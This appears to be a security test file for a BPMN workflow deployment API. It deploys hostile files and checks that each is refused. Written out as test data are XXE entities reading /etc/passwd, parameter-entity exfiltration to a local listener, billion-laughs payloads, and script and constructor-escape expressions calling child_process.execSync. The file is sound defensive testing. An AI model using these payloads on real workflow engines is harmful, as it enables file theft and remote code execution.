import { existsSync, readFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import path from 'node:path';
import TestAgent from 'supertest/lib/agent.js';
import { bpmn, emptyDir, startTestApp, type TestApp } from './support/test-app.js';
import { corpusFiles } from './support/corpus.js';

/** A process running start → `middle` → end. */
const proc = (id: string, middle: string, extra = '') =>
  bpmn(
    `<process id="${id}" isExecutable="true"><startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="m"/>${middle}<sequenceFlow id="f2" sourceRef="m" targetRef="e"/><endEvent id="e"/>${extra}</process>`,
  );
const withDoctype = (doctype: string, body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${bpmn(body).replace(/^<\?xml[^>]*\?>\n?/, '')}`;

describe('hostile BPMN deployed over HTTP (/engine-rest/deployment/create)', () => {
  let t: TestApp;
  let listener: Server;
  let port: number;
  let connections = 0;
  const marker = path.join(emptyDir(), 'code-ran');
  const shell = `process.mainModule.require('child_process').execSync('touch ${marker}')`;

  beforeAll(async () => {
    // A port hostile files point at: any connection to it is a request the service made for the file.
    listener = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as AddressInfo).port;
    t = await startTestApp();
    await t.http.post('/api/units').send({ code: 'HBJ', name: '市环保局' }).expect(201);
  });
  afterAll(async () => {
    await t.close();
    await new Promise((resolve) => listener.close(resolve));
  });

  const stored = async () =>
    (
      await t.db.query(
        `SELECT (SELECT count(*)::int FROM engine_definition) AS definitions, (SELECT count(*)::int FROM engine_deployment) AS deployments`,
      )
    )[0] as { definitions: number; deployments: number };

  /** A deployment as Camunda Modeler sends it: the file under its own name, with the modeler's fields. */
  const deploy = (agent: TestAgent, name: string, content: string | Buffer) =>
    agent
      .post('/engine-rest/deployment/create')
      .field('deployment-name', name.replace(/\.bpmn$/, ''))
      .field('deployment-source', 'Camunda Modeler')
      .field('deploy-changed-only', 'true')
      .attach(name, Buffer.isBuffer(content) ? content : Buffer.from(content), name);

  /** Deploys a file that must be refused: 400 with a message, and nothing stored. */
  async function refused(name: string, content: string | Buffer, agent: TestAgent = t.http) {
    const before = await stored();
    const res = await deploy(agent, name, content);
    expect({ status: res.status, message: typeof res.body.message }).toEqual({ status: 400, message: 'string' });
    expect(await stored()).toEqual(before);
    return res.body as {
      type: string;
      message: string;
      details?: Record<string, { errors: { message: string; mainElementId: string | null }[] }>;
    };
  }
  const reasons = (body: Awaited<ReturnType<typeof refused>>) =>
    Object.values(body.details ?? {}).flatMap((d) => d.errors.map((e) => e.message));

  /** Runs `work` while /health is asked every 50 ms; the slowest answer it gave meanwhile. */
  async function whileHealthAnswers<T>(work: () => Promise<T>): Promise<{ value: T; slowestHealthMs: number }> {
    let done = false;
    let slowestHealthMs = 0;
    const poll = (async () => {
      while (!done) {
        const t0 = Date.now();
        await t.anon.get('/health').expect(200);
        slowestHealthMs = Math.max(slowestHealthMs, Date.now() - t0);
        await new Promise((r) => setTimeout(r, 50));
      }
    })();
    try {
      const value = await work();
      done = true;
      await poll;
      return { value, slowestHealthMs };
    } finally {
      done = true;
      await poll;
    }
  }

  describe('XML attacks', () => {
    it('refuses external entities, external DTDs, parameter entities and billion laughs, and never reaches out', async () => {
      const url = `http://127.0.0.1:${port}`;
      const start = '<process id="x" isExecutable="true"><startEvent id="s" name="&xxe;"/></process>';
      const lol = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
      const cases: Record<string, string | Buffer> = {
        'xxe-file.bpmn': withDoctype('<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', start),
        'xxe-http.bpmn': withDoctype(`<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "${url}/leak?f=passwd">]>`, start),
        'external-dtd.bpmn': withDoctype(
          `<!DOCTYPE definitions SYSTEM "${url}/evil.dtd">`,
          '<process id="x" isExecutable="true"><startEvent id="s"/></process>',
        ),
        'parameter-entity.bpmn': withDoctype(
          `<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "${url}/p.dtd"> %remote; %send;]>`,
          start,
        ),
        'billion-laughs.bpmn': withDoctype(
          `<!DOCTYPE definitions [<!ENTITY lol0 "lol">${lol}]>`,
          '<process id="x" isExecutable="true"><startEvent id="s" name="&lol10;"/></process>',
        ),
        // The same entity in UTF-16, as a parser that honours the declaration would read it.
        'xxe-utf16.bpmn': Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(
            withDoctype('<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', start).replace(
              'UTF-8',
              'UTF-16',
            ),
            'utf16le',
          ),
        ]),
      };
      for (const [name, content] of Object.entries(cases)) {
        const body = await refused(name, content);
        expect(body.type).toBe('ParseException');
        expect(body.message).toMatch(name === 'xxe-utf16.bpmn' ? /not valid UTF-8/ : /DOCTYPE is not allowed/);
        expect(JSON.stringify(body)).not.toMatch(/root:|daemon:/);
      }
      expect(connections).toBe(0);
    });

    it('never fetches what a file points at even when it deploys (XInclude, schemaLocation, BPMN import)', async () => {
      const url = `http://127.0.0.1:${port}`;
      const files: Record<string, string> = {
        'xinclude.bpmn': proc(
          'pointer1',
          `<task id="m"><documentation><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}/x" parse="text"/></documentation></task>`,
        ),
        'schema-location.bpmn': proc('pointer2', '<task id="m"/>').replace(
          '<definitions ',
          `<definitions xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL ${url}/BPMN20.xsd" `,
        ),
        'import.bpmn': proc('pointer3', '<task id="m"/>').replace(
          '<process ',
          `<import importType="http://www.w3.org/2001/XMLSchema" location="${url}/types.xsd" namespace="http://x"/><process `,
        ),
      };
      for (const [name, content] of Object.entries(files)) {
        const res = await deploy(t.http, name, content);
        expect([200, 400]).toContain(res.status);
        if (res.status === 200) {
          const key = name === 'xinclude.bpmn' ? 'pointer1' : name === 'schema-location.bpmn' ? 'pointer2' : 'pointer3';
          await t.http.post(`/engine-rest/process-definition/key/${key}/start`).send({}).expect(200);
        }
      }
      expect(connections).toBe(0);
    });

    it('refuses a 50 MB file quickly with a 400 naming the limit, its memory bounded', async () => {
      const head = Buffer.from(
        bpmn('<process id="big" isExecutable="true"><documentation>').replace(
          '</documentation></process></definitions>',
          '',
        ),
      );
      const file = Buffer.concat([
        head,
        Buffer.alloc(50 * 1024 * 1024, 'x'),
        Buffer.from('</documentation><startEvent id="s"/></process></definitions>'),
      ]);
      const rss = process.memoryUsage().rss;
      const t0 = Date.now();
      const body = await refused('big.bpmn', file);
      expect(body.message).toBe('a deployment file is over the limit of 2097152 bytes (DUBAN_MAX_BPMN_BYTES)');
      expect(Date.now() - t0).toBeLessThan(15_000);
      expect((process.memoryUsage().rss - rss) / 1024 / 1024).toBeLessThan(300);
    });

    it('refuses a 2 MB file of 24,000 tasks before parsing it, /health answering all the while', async () => {
      const chain = Array.from(
        { length: 24_000 },
        (_, i) => `<task id="t${i + 1}"/><sequenceFlow id="f${i + 1}" sourceRef="t${i}" targetRef="t${i + 1}"/>`,
      );
      const huge = bpmn(`<process id="huge" isExecutable="true"><startEvent id="t0"/>${chain.join('')}</process>`);
      expect(Buffer.byteLength(huge)).toBeLessThan(2 * 1024 * 1024);
      const t0 = Date.now();
      const { value: body, slowestHealthMs } = await whileHealthAnswers(() => refused('huge.bpmn', huge));
      const took = Date.now() - t0;
      console.log(`24,000 tasks: refused in ${took} ms; slowest /health meanwhile ${slowestHealthMs} ms`);
      expect(reasons(body)).toEqual([
        expect.stringMatching(/^the file holds more than 2000 elements, its diagram aside \(DUBAN_MAX_BPMN_ELEMENTS\)/),
      ]);
      expect(slowestHealthMs).toBeLessThan(1000);
      expect(took).toBeLessThan(15_000);
    });

    it('checks a file at the element limit off the main thread: it deploys, /health answering all the while', async () => {
      // 2,000 elements with their diagram: the most a file may hold, the costliest parse a deploy can ask for.
      const n = 998;
      const shapes: string[] = [];
      const body: string[] = ['<startEvent id="a0"/>'];
      for (let i = 1; i <= n; i++) {
        body.push(
          `<task id="a${i}" name="第${i}步"/><sequenceFlow id="g${i}" sourceRef="a${i - 1}" targetRef="a${i}"/>`,
        );
        shapes.push(
          `<bpmndi:BPMNShape id="a${i}_di" bpmnElement="a${i}"><dc:Bounds x="${i * 150}" y="80" width="100" height="80"/></bpmndi:BPMNShape>`,
        );
        shapes.push(
          `<bpmndi:BPMNEdge id="g${i}_di" bpmnElement="g${i}"><di:waypoint x="${i * 150 - 50}" y="120"/><di:waypoint x="${i * 150}" y="120"/></bpmndi:BPMNEdge>`,
        );
      }
      const diagram = `<bpmndi:BPMNDiagram id="d"><bpmndi:BPMNPlane id="pl" bpmnElement="atLimit">${shapes.join('')}</bpmndi:BPMNPlane></bpmndi:BPMNDiagram>`;
      const xml = bpmn(`<process id="atLimit" isExecutable="true">${body.join('')}</process>${diagram}`).replace(
        '<definitions ',
        '<definitions xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" ',
      );
      const t0 = Date.now();
      const { value: res, slowestHealthMs } = await whileHealthAnswers(() => deploy(t.http, 'at-limit.bpmn', xml));
      console.log(
        `${2 * n + 3} elements and their diagram (${Buffer.byteLength(xml)} bytes): deployed in ${Date.now() - t0} ms; slowest /health meanwhile ${slowestHealthMs} ms`,
      );
      expect(res.status).toBe(200);
      expect(slowestHealthMs).toBeLessThan(1000);
    });

    it('refuses nesting 100,000 elements deep', async () => {
      const deep = bpmn(
        `<process id="deep" isExecutable="true">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</process>`,
      );
      expect(reasons(await refused('deep.bpmn', deep))).toEqual([
        expect.stringMatching(/^nesting deeper than 200 elements is not allowed \(line 2, column \d+\)$/),
      ]);
    });
  });

  describe('code in a process', () => {
    const cases: Record<string, [string, RegExp]> = {
      'script-task.bpmn': [
        proc('code', `<scriptTask id="m" scriptFormat="javascript"><script>${shell}</script></scriptTask>`),
        /^m: script tasks are not allowed/,
      ],
      'javascript-condition.bpmn': [
        proc(
          'code',
          '<exclusiveGateway id="m"/>',
          `<sequenceFlow id="js" sourceRef="m" targetRef="e"><conditionExpression xsi:type="tFormalExpression" language="javascript">${shell}; next(null, true)</conditionExpression></sequenceFlow>`,
        ),
        /^js: condition in language 'javascript' is a script/,
      ],
      'listener-script.bpmn': [
        proc(
          'code',
          `<task id="m"><extensionElements><camunda:executionListener event="start"><camunda:script scriptFormat="javascript">${shell}</camunda:script></camunda:executionListener></extensionElements></task>`,
        ),
        /^m: scripts are not allowed: camunda:script \(javascript\)/,
      ],
      'listener-class.bpmn': [
        proc(
          'code',
          '<task id="m"><extensionElements><camunda:executionListener event="start" class="java.lang.Runtime"/></extensionElements></task>',
        ),
        /^m: camunda:executionListener with camunda:class is not allowed/,
      ],
      'listener-expression.bpmn': [
        proc(
          'code',
          `<task id="m"><extensionElements><camunda:executionListener event="end" expression="\${${shell}}"/></extensionElements></task>`,
        ),
        /^m: camunda:executionListener with camunda:expression is not allowed/,
      ],
      'task-listener-delegate.bpmn': [
        proc(
          'code',
          '<userTask id="m"><extensionElements><camunda:taskListener event="create" delegateExpression="${runtime}"/></extensionElements></userTask>',
        ),
        /^m: camunda:taskListener with camunda:delegateExpression/,
      ],
      'input-output-script.bpmn': [
        proc(
          'code',
          `<task id="m"><extensionElements><camunda:inputOutput><camunda:inputParameter name="x"><camunda:script scriptFormat="javascript">${shell}</camunda:script></camunda:inputParameter></camunda:inputOutput></extensionElements></task>`,
        ),
        /^m: scripts are not allowed: camunda:script/,
      ],
      'condition-constructor.bpmn': [
        proc(
          'code',
          '<exclusiveGateway id="m"/>',
          `<sequenceFlow id="c" sourceRef="m" targetRef="e"><conditionExpression xsi:type="tFormalExpression">\${environment.services.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${marker}')}</conditionExpression></sequenceFlow>`,
        ),
        /reaches into 'constructor'/,
      ],
      'timer-constructor.bpmn': [
        proc(
          'code',
          `<intermediateCatchEvent id="m"><timerEventDefinition><timeDuration>\${environment.constructor.constructor('return process')().exit(1)}</timeDuration></timerEventDefinition></intermediateCatchEvent>`,
        ),
        /^m: expression .* reaches into 'constructor'/,
      ],
      'assignee-constructor.bpmn': [
        proc(
          'code',
          `<userTask id="m" camunda:assignee="\${content.constructor.constructor('return process')().exit(1)}"/>`,
        ),
        /^m: expression .* reaches into 'constructor'/,
      ],
      'assignee-proto.bpmn': [
        proc('code', '<userTask id="m" camunda:assignee="${environment.variables.__proto__.polluted}"/>'),
        /^m: expression .* reaches into '__proto__'/,
      ],
      'timer-step-context.bpmn': [
        proc(
          'code',
          '<intermediateCatchEvent id="m"><timerEventDefinition><timeDuration>${environment.services.$step.tx.connection.options.url}</timeDuration></timerEventDefinition></intermediateCatchEvent>',
        ),
        /^m: expression .* reaches into '\$step'/,
      ],
      'condition-unregistered-call.bpmn': [
        proc(
          'code',
          '<exclusiveGateway id="m"/>',
          `<sequenceFlow id="c" sourceRef="m" targetRef="e"><conditionExpression xsi:type="tFormalExpression">\${environment.services.exec('touch ${marker}')}</conditionExpression></sequenceFlow>`,
        ),
        /^c: unknown handler exec/,
      ],
      'service-class.bpmn': [
        proc('code', '<serviceTask id="m" camunda:class="java.lang.ProcessBuilder"/>'),
        /^m: camunda:class is not supported/,
      ],
      'service-unregistered.bpmn': [
        proc('code', '<serviceTask id="m" implementation="${environment.services.exec}"/>'),
        /^m: unknown handler exec/,
      ],
    };

    it.each(Object.keys(cases))('refuses %s with a 400 naming the element, storing nothing', async (name) => {
      const [xml, reason] = cases[name];
      const body = await refused(name, xml);
      expect(body.type).toBe('ParseException');
      expect(reasons(body)).toEqual(expect.arrayContaining([expect.stringMatching(reason)]));
      expect(existsSync(marker)).toBe(false);
    });

    it('refuses calls in task attributes at deploy; a lookup of what is not there stops the start, executing nothing', async () => {
      const calls = bpmn(`<process id="inert" isExecutable="true">
        <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="t"/>
        <userTask id="t" name="审核" camunda:assignee="\${${shell}}" camunda:candidateGroups="\${global.process.exit(1)}" camunda:formKey="\${require('fs').writeFileSync('${marker}', 'x')}"/>
        <sequenceFlow id="f3" sourceRef="t" targetRef="e"/><endEvent id="e"/>
      </process>`);
      const body = await refused('inert.bpmn', calls);
      expect(reasons(body)).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^t: camunda:assignee .* 无法求值：不允许调用方法 require\(\)/),
          expect.stringMatching(/^t: camunda:candidateGroups .* 无法求值：不允许调用方法 exit\(\)/),
          expect.stringMatching(/^t: camunda:formKey .* 无法求值：不允许调用函数 require\(\)/),
        ]),
      );
      const xml = bpmn(`<process id="inert" isExecutable="true">
        <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="g"/>
        <exclusiveGateway id="g" default="toTask"/>
        <sequenceFlow id="toEnd" sourceRef="g" targetRef="e"><conditionExpression xsi:type="tFormalExpression">\${process.mainModule.require}</conditionExpression></sequenceFlow>
        <sequenceFlow id="toTask" sourceRef="g" targetRef="t"/>
        <userTask id="t" name="审核"/>
        <sequenceFlow id="f3" sourceRef="t" targetRef="e"/><endEvent id="e"/>
      </process>`);
      await deploy(t.http, 'inert.bpmn', xml).expect(200);
      // Camunda fails the start on an unknown identifier; it is never read as false and the default flow taken.
      const res = await t.http.post('/engine-rest/process-definition/key/inert/start').send({}).expect(500);
      expect(res.body.message).toMatch(/变量 process 不存在.*\$\{process\.mainModule\.require\}/);
      expect(
        (await t.http.get('/engine-rest/process-instance').query({ processDefinitionKey: 'inert' }).expect(200)).body,
      ).toEqual([]);
      expect(existsSync(marker)).toBe(false);
    });
  });

  describe('who may deploy', () => {
    const xml = proc('who', '<userTask id="m"/>');

    it('refuses callers without credentials (401), with wrong ones (401), and roles other than the office (403)', async () => {
      const before = await stored();
      const anon = await deploy(t.anon, 'who.bpmn', xml).expect(401);
      expect(anon.headers['www-authenticate']).toMatch(/^Basic/);
      const admin = await t.credentials('admin');
      await deploy(t.anon, 'who.bpmn', xml)
        .set('Authorization', `Basic ${Buffer.from(`${admin.username}:wrong-password`).toString('base64')}`)
        .expect(401);
      await deploy(t.anon, 'who.bpmn', xml).set('Authorization', 'Bearer not.a.token').expect(401);
      await deploy(await t.as('unit', 'HBJ'), 'who.bpmn', xml).expect(403);
      await deploy(await t.as('leader'), 'who.bpmn', xml).expect(403);
      await deploy(await t.as('inspector'), 'who.bpmn', xml).expect(403);
      const leader = await t.credentials('leader');
      await deploy(t.anon, 'who.bpmn', xml)
        .set('Authorization', `Basic ${Buffer.from(`${leader.username}:${leader.password}`).toString('base64')}`)
        .expect(403);
      expect(await stored()).toEqual(before);
      // The office may, with its token or with Basic as Camunda Modeler sends it.
      const office = await t.credentials('office');
      await deploy(t.anon, 'who.bpmn', xml)
        .set('Authorization', `Basic ${Buffer.from(`${office.username}:${office.password}`).toString('base64')}`)
        .expect(200);
    });
  });

  const files = corpusFiles();
  (files.length ? it : it.skip)(
    `answers every corpus file (${files.length}) with 200 or a 400 naming the problem, never a 500 or a hang`,
    async () => {
      const outcome: Record<string, number> = {};
      for (const f of files) {
        const t0 = Date.now();
        const res = await deploy(t.http, path.basename(f), readFileSync(f));
        outcome[res.status] = (outcome[res.status] ?? 0) + 1;
        expect({ file: f, status: [200, 400].includes(res.status) }).toEqual({ file: f, status: true });
        if (res.status === 400)
          expect({ file: f, message: res.body.message }).toEqual({
            file: f,
            message: expect.stringMatching(/^ENGINE-09005 Could not parse BPMN process\. Errors in .+: .+/),
          });
        expect(Date.now() - t0).toBeLessThan(20_000);
      }
      expect(outcome[200]).toBeGreaterThan(5);
      expect(Object.values(outcome).reduce((a, b) => a + b, 0)).toBe(files.length);
    },
  );

  it('after all of them: healthy, and a valid deployment still works', async () => {
    await t.http.get('/health').expect(200);
    const before = await stored();
    const res = await deploy(
      t.http,
      'ok.bpmn',
      proc('healthy', '<userTask id="m" name="审核" camunda:candidateGroups="HBJ"/>'),
    ).expect(200);
    expect(Object.values(res.body.deployedProcessDefinitions)).toEqual([
      expect.objectContaining({ key: 'healthy', version: 1 }),
    ]);
    expect(await stored()).toEqual({ definitions: before.definitions + 1, deployments: before.deployments + 1 });
    await t.http.post('/engine-rest/process-definition/key/healthy/start').send({}).expect(200);
    expect(existsSync(marker)).toBe(false);
    expect(connections).toBe(0);
  });
});
